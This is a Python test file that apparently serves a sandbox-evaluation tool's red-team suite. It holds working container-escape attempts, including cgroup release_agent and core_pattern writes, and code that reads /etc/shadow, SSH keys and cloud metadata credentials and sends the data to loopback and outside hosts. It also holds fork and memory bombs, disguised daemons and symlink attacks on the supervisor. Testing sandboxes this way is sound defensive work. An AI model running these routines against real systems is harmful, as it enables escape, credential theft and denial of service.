"""attack.py - the attacks of `sandeval redteam`: each misbehaves on purpose, and only ever runs inside a sandbox.

Usage (by sandeval redteam, never by hand on the host): attack.py NAME TOKEN
The host side (src/lib/redteam) passes what the attack aims at in the
environment: RT_HOSTDIR (a host directory holding a canary and a secret),
RT_TCP and RT_UDP (host loopback ports that listen), RT_ABSTRACT (a host
abstract unix socket name). Each attack prints KEY=VALUE lines saying what
happened to it; the judge never believes them, it looks at the host and at
the supervisor's tripwire counters. catalog.json says what each one expects.
"""
import ctypes
import errno
import os
import signal
import socket
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

# x86_64 system call numbers
NR = {
    "ptrace": 101, "chroot": 161, "mount": 165, "umount2": 166, "init_module": 175,
    "kexec_load": 246, "keyctl": 250, "unshare": 272, "setns": 308, "bpf": 321,
    "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425, "pivot_root": 155,
    "add_key": 248, "finit_module": 313, "reboot": 169, "process_vm_readv": 310,
}

TOKEN = sys.argv[2] if len(sys.argv) > 2 else "rt"
HOSTDIR = os.environ.get("RT_HOSTDIR", "/nonexistent")
TCP = int(os.environ.get("RT_TCP", "9"))
UDP = int(os.environ.get("RT_UDP", "9"))
ABSTRACT = os.environ.get("RT_ABSTRACT", "sandeval-redteam")


def say(key, value):
    print("%s=%s" % (key, value), flush=True)


def sc(name, *args):
    """A raw system call; prints and returns its errno name (or ok)."""
    cargs = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    r = libc.syscall(ctypes.c_long(NR[name]), *cargs)
    e = ctypes.get_errno()
    what = "ok" if r >= 0 else errno.errorcode.get(e, str(e))
    say(name, what)
    return what


def attempt(key, fn):
    try:
        r = fn()
        say(key, "ok" if r is None else r)
        return True
    except OSError as e:
        say(key, errno.errorcode.get(e.errno, str(e.errno)))
    except Exception as e:  # noqa: BLE001 - an attack reports every failure
        say(key, type(e).__name__)
    return False


def write_file(path, data=b"x"):
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)


def send_out(data, host="127.0.0.1", port=None):
    """Exfiltrate DATA to a host loopback listener: TCP, then UDP."""
    def tcp():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(0.5)
        s.connect((host, port or TCP))
        s.sendall(data)
        s.close()

    def udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(data, (host, UDP))
        s.close()
    attempt("tcp_send", tcp)
    attempt("udp_send", udp)


# ---------------------------------------------------------------- escape

def a_mount():
    sc("mount", b"none", b"/tmp", b"tmpfs", 0, 0)


def a_unshare():
    sc("unshare", 0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS


def a_setns():
    fd = os.open("/proc/self/ns/net", os.O_RDONLY)
    sc("setns", fd, 0)


def a_ptrace():
    sc("ptrace", 16, os.getppid(), 0, 0)  # PTRACE_ATTACH to the parent


def a_process_vm_readv():
    buf = ctypes.create_string_buffer(16)
    iov = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 16)
    sc("process_vm_readv", 1, ctypes.byref(iov), 1, ctypes.byref(iov), 1, 0)


def a_bpf():
    attr = ctypes.create_string_buffer(128)
    sc("bpf", 5, attr, 128)  # BPF_PROG_LOAD


def a_keyctl():
    sc("keyctl", 0, -3, 0)  # KEYCTL_GET_KEYRING_ID of the session keyring


def a_kexec():
    sc("kexec_load", 0, 0, 0, 0)


def a_init_module():
    image = ctypes.create_string_buffer(b"\x7fELF" + b"\0" * 60)
    sc("init_module", image, 64, b"")


def a_chroot():
    # the classic break: chroot into a subdirectory, then climb out with ..
    os.makedirs("/tmp/jail", exist_ok=True)
    sc("chroot", b"/tmp/jail")
    for _ in range(64):
        os.chdir("..")
    sc("chroot", b".")


def a_userfaultfd():
    sc("userfaultfd", 0)


def a_io_uring():
    params = ctypes.create_string_buffer(120)
    sc("io_uring_setup", 4, params)


def a_clone_newns():
    # clone(CLONE_NEWNS | SIGCHLD) through the raw call: fork into a new mount namespace
    r = libc.syscall(ctypes.c_long(56), ctypes.c_long(0x00020000 | 17), 0, 0, 0, 0)
    if r == 0:
        os._exit(0)
    say("clone", "ok" if r > 0 else errno.errorcode.get(ctypes.get_errno(), "?"))


def a_core_pattern():
    attempt("core_pattern", lambda: write_file("/proc/sys/kernel/core_pattern", b"|/tmp/pwn %p"))
    attempt("modprobe", lambda: write_file("/proc/sys/kernel/modprobe", b"/tmp/pwn"))


def a_cgroup_release_agent():
    # CVE-2022-0492: a release_agent run by the host kernel as root
    for ctl in ("memory", "pids", "cpu", "freezer", "rdma", ""):
        base = "/sys/fs/cgroup/" + ctl if ctl else "/sys/fs/cgroup"
        attempt("release_agent_" + (ctl or "root"), lambda b=base: write_file(b + "/release_agent", b"/tmp/pwn"))
        attempt("notify_" + (ctl or "root"), lambda b=base: write_file(b + "/notify_on_release", b"1"))
    attempt("procs", lambda: write_file("/sys/fs/cgroup/pids/cgroup.procs", b"0"))
    # no cgroupfs to write (gVisor's /sys is empty): the PoC's own way, a
    # cgroup mount of its own in new user, mount and cgroup namespaces
    sc("unshare", 0x10000000 | 0x00020000 | 0x02000000)


def a_mknod():
    attempt("mknod_dev", lambda: os.mknod("/dev/rt-sda", 0o600 | 0o060000, os.makedev(8, 0)))
    attempt("mknod_mem", lambda: os.mknod("/work/rt-mem", 0o600 | 0o020000, os.makedev(1, 1)))
    attempt("open_mem", lambda: os.open("/work/rt-mem", os.O_RDWR))


def a_write_host_paths():
    # the host's own files: none is writable, whatever the path's form
    for p in ("/etc/passwd", "/usr/bin/rt-" + TOKEN, "/work/../etc/rt-" + TOKEN, "/root/.bashrc"):
        attempt("write " + p, lambda p=p: write_file(p, b"pwned\n"))


# ---------------------------------------------------------------- exfiltration

def a_tcp_connect():
    send_out(b"exfil " + TOKEN.encode())
    attempt("outside", lambda: socket.create_connection(("1.1.1.1", 443), timeout=0.5))


def a_udp_sendto():
    def go():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b"exfil " + TOKEN.encode(), ("127.0.0.1", UDP))
        s.sendto(b"exfil", ("8.8.8.8", 53))
    attempt("sendto", go)


def a_dns():
    # a DNS query of its own (the data in the name), then the resolver's
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + bytes([len(TOKEN)]) + TOKEN.encode() + \
        b"\x07example\x03com\x00\x00\x01\x00\x01"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    attempt("dns_8.8.8.8", lambda: s.sendto(q, ("8.8.8.8", 53)))
    attempt("dns_local", lambda: s.sendto(q, ("127.0.0.53", 53)))
    attempt("getaddrinfo", lambda: socket.getaddrinfo(TOKEN + ".example.com", 80) and None)


def a_ipv6():
    def go():
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        s.settimeout(0.5)
        s.connect(("2606:4700:4700::1111", 443))
    attempt("connect6", go)


def a_raw_socket():
    attempt("raw_icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) and None)
    # no raw socket: an ICMP echo through a ping socket, towards the outside
    def ping():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
        s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("1.1.1.1", 0))
    attempt("ping", ping)


def a_packet_socket():
    attempt("packet", lambda: socket.socket(17, socket.SOCK_RAW, 0x0300) and None)  # AF_PACKET, ETH_P_ALL


def a_netlink_socket():
    attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) and None)  # NETLINK_ROUTE


def a_abstract_socket():
    # a host abstract unix socket: the network namespace keeps its own
    def go():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect("\0" + ABSTRACT)
        s.sendall(b"exfil")
    attempt("abstract", go)
    # then the host's loopback, where the same listener's twin waits
    send_out(b"exfil " + TOKEN.encode())


def read_all(paths):
    got = b""
    for p in paths:
        try:
            with open(p, "rb") as f:
                got += f.read(4096)
            say("read " + p, "ok")
        except OSError as e:
            say("read " + p, errno.errorcode.get(e.errno, "?"))
    return got


def a_read_secrets():
    got = read_all(["/etc/shadow", "/etc/gshadow", "/root/.ssh/id_rsa", HOSTDIR + "/secret",
                    "/proc/1/environ", "/proc/kcore"])
    sys.stdout.buffer.write(got)
    send_out(got or b"nothing")


def a_read_supervisor():
    # the supervisor's state: run records, runsc's bundle, sandeval's own memory
    paths = ["/run/sandeval", "/var/lib/sandeval", "/root/.local/state/sandeval", HOSTDIR]
    for d in paths:
        attempt("list " + d, lambda d=d: ",".join(os.listdir(d)[:8]))
    got = read_all([HOSTDIR + "/canary", HOSTDIR + "/secret", "/proc/%d/environ" % os.getppid(),
                    "/proc/%d/mem" % os.getppid()])
    send_out(got or b"nothing")


# ---------------------------------------------------------------- metadata

def a_metadata_v4():
    def go():
        s = socket.create_connection(("169.254.169.254", 80), timeout=0.5)
        s.sendall(b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n")
    attempt("imds", go)


def a_metadata_v6():
    def go():
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        s.settimeout(0.5)
        s.connect(("fd00:ec2::254", 80))
    attempt("imds6", go)


def a_metadata_udp():
    def go():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b"x", ("169.254.169.254", 53))
    attempt("imds_udp", go)
    attempt("imds_mapped", lambda: socket.create_connection(("::ffff:169.254.169.254", 80), timeout=0.5) and None)


def a_metadata_dns():
    # the metadata service by name, as cloud SDKs find it
    for name in ("metadata.google.internal", "instance-data.ec2.internal"):
        attempt("connect " + name, lambda n=name: socket.create_connection((n, 80), timeout=2) and None)


# ---------------------------------------------------------------- denial of service

def a_fork_bomb():
    n = 0
    while True:
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
            n += 1
        except OSError:
            pass


def a_thread_bomb():
    ev = threading.Event()
    n = 0
    while True:
        try:
            threading.Thread(target=ev.wait, daemon=True).start()
            n += 1
        except RuntimeError:
            if n:
                say("threads", n)
                n = 0


def a_memory_bomb():
    hog = []
    while True:
        hog.append(bytearray(8 << 20))


def a_disk_fill():
    # files as large as they go (RLIMIT_FSIZE), until the tmpfs is full; then the program ends
    big = b"x" * (1 << 20)
    full = 0
    for i in range(256):
        try:
            with open("/tmp/fill%d" % i, "wb") as f:
                while True:
                    f.write(big)
                    f.flush()
        except OSError as e:
            if e.errno == errno.ENOSPC:
                full += 1
                if full > 4:
                    say("full_after", i)
                    return


def a_inode_bomb():
    # inodes without end: socket files (bind is not a watched call, so this
    # runs at the kernel's speed), and empty files now and then
    os.makedirs("/tmp/i", exist_ok=True)
    i = 0
    while True:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        try:
            s.bind("/tmp/i/s%d" % i)
            if i % 64 == 0:
                os.close(os.open("/tmp/i/%d" % i, os.O_WRONLY | os.O_CREAT, 0o600))
        except OSError:
            pass
        s.close()
        i += 1


def a_output_flood():
    line = b"y" * 65536
    while True:
        sys.stdout.buffer.write(line)


def a_cpu_spin():
    def spin():
        while True:
            pass
    for _ in range(3):
        threading.Thread(target=spin, daemon=True).start()
    spin()


def a_file_size():
    with open("/work/big", "wb") as f:
        f.write(b"z" * (64 << 20))


def a_file_size_ignore():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    a_file_size()


# ---------------------------------------------------------------- residue

def a_daemonize():
    # the daemon says it runs (its pid, once its signals are ignored) before
    # the program ends: an attack that never got its daemon going exits 3,
    # so that "not detected" cannot hide "not performed"
    r, w = os.pipe()
    if os.fork() == 0:
        os.close(r)
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            os.write(w, b"%d" % os.getpid())
            for fd in (0, 1, 2, w):
                os.close(fd)
            while True:
                time.sleep(0.05)
        os._exit(0)
    os.close(w)
    os.wait()
    with os.fdopen(r, "rb") as f:
        pid = f.read()
    if not pid:
        say("daemon", "not started")
        sys.exit(3)
    say("daemon", pid.decode())


def a_setsid_sleeper():
    # a process group of its own, renamed, sleeping past the run
    pid = os.fork()
    if pid == 0:
        os.setsid()
        libc.prctl(15, b"kworker/0:1", 0, 0, 0)  # PR_SET_NAME
        os.closerange(0, 3)
        time.sleep(3600)
        os._exit(0)
    say("sleeper", pid)


def a_leave_files():
    for p in ("/var/tmp/rt-" + TOKEN, HOSTDIR + "/rt-" + TOKEN, "/dev/rt-" + TOKEN, "/run/rt-" + TOKEN,
              "/home/rt-" + TOKEN):
        attempt("create " + p, lambda p=p: write_file(p, b"residue\n"))


def a_create_cgroup():
    for ctl in ("pids", "memory", "cpu", "unified", ""):
        base = "/sys/fs/cgroup/" + ctl if ctl else "/sys/fs/cgroup"
        attempt("mkdir " + base, lambda b=base: os.mkdir(b + "/rt-" + TOKEN))
    # no cgroupfs there (gVisor): make the directories it would be mounted on
    attempt("makedirs", lambda: os.makedirs("/sys/fs/cgroup/rt-" + TOKEN))


# ---------------------------------------------------------------- tampering with the harness

def a_kill_all():
    # every process it may signal: the sandbox's own only (pid namespace)
    attempt("kill-1", lambda: os.kill(-1, signal.SIGKILL))
    attempt("kill_ppid", lambda: os.kill(os.getppid(), signal.SIGKILL))
    # then the supervisor by guessing host pids, and by ptrace (its next step)
    hits = 0
    for pid in range(2, 4096):
        try:
            os.kill(pid, 0)
            hits += 1
        except OSError:
            pass
    say("visible_pids", hits)
    sc("ptrace", 16, 1, 0, 0)


def a_verdict_channel():
    # the channel init reports on, and the supervisor's descriptors: by path
    targets = ["/.sandeval/ctl", "/.sandeval/out", "/proc/1/fd/1", "/proc/1/fd/3", "/proc/1/fd/4",
               "/proc/%d/fd/1" % os.getppid()]
    for t in targets:
        attempt("write " + t, lambda t=t: write_file(t, b"S 0\n"))
    attempt("swap_fd", lambda: os.open("/proc/1/root/etc/passwd", os.O_WRONLY) and None)


def a_seccomp_listener():
    # take the supervisor's place: a seccomp filter with a listener of its own
    prog = (ctypes.c_ushort * 4)(0x06, 0, 0, 0)  # BPF_RET | BPF_K, ...
    filt = (ctypes.c_uint64 * 2)(1, ctypes.addressof(prog))
    libc.prctl(38, 1, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS
    r = libc.syscall(ctypes.c_long(317), ctypes.c_long(1), ctypes.c_long(8), ctypes.byref(filt))
    say("seccomp_listener", "ok" if r >= 0 else errno.errorcode.get(ctypes.get_errno(), "?"))
    # the payload it hoped its listener would let through
    sc("mount", b"none", b"/tmp", b"tmpfs", 0, 0)


# ---------------------------------------------------------------- symlinks against the supervisor (Judge0 CVE-2024-28185/28189)

def a_symlink_out():
    # every name the supervisor might write or read after the run, as a link to a host file
    for name in ("/work/out", "/work/stdout", "/work/result", "/work/.sandeval-out", "/tmp/out", "/work/run"):
        attempt("link " + name, lambda n=name: os.symlink(HOSTDIR + "/canary", n))
    # and a write through such a link: it lands where the link points
    attempt("write_through", lambda: write_file("/work/out", b"pwned\n"))
    attempt("link_passwd", lambda: os.symlink("/etc/passwd", "/tmp/pw") or write_file("/tmp/pw", b"pwned\n"))


def a_symlink_dir():
    # a directory link out of /work, then a file created beneath it
    attempt("dirlink", lambda: os.symlink(HOSTDIR, "/work/host"))
    attempt("create_beneath", lambda: write_file("/work/host/rt-" + TOKEN, b"pwned\n"))
    attempt("etclink", lambda: os.symlink("/etc", "/tmp/etc"))
    attempt("create_in_etc", lambda: write_file("/tmp/etc/rt-" + TOKEN, b"pwned\n"))
    attempt("hardlink", lambda: os.link("/etc/passwd", "/work/passwd"))


def a_benign():
    # what an honest program does: files in /work and /tmp, a child, a thread, a socket pair
    write_file("/tmp/a", b"x")
    os.mkdir("/work/d")
    os.rename("/tmp/a", "/tmp/b")
    os.unlink("/tmp/b")
    a, b = socket.socketpair()
    a.sendall(b"z")
    assert b.recv(1) == b"z"
    t = threading.Thread(target=print)
    t.start()
    t.join()
    if os.fork() == 0:
        os._exit(0)
    os.wait()
    say("benign", "done")


ATTACKS = {k[2:].replace("_", "-"): v for k, v in list(globals().items()) if k.startswith("a_")}

if __name__ == "__main__":
    if len(sys.argv) < 2 or sys.argv[1] not in ATTACKS:
        sys.stderr.write("usage: attack.py NAME TOKEN (names: %s)\n" % " ".join(sorted(ATTACKS)))
        sys.exit(2)
    ATTACKS[sys.argv[1]]()
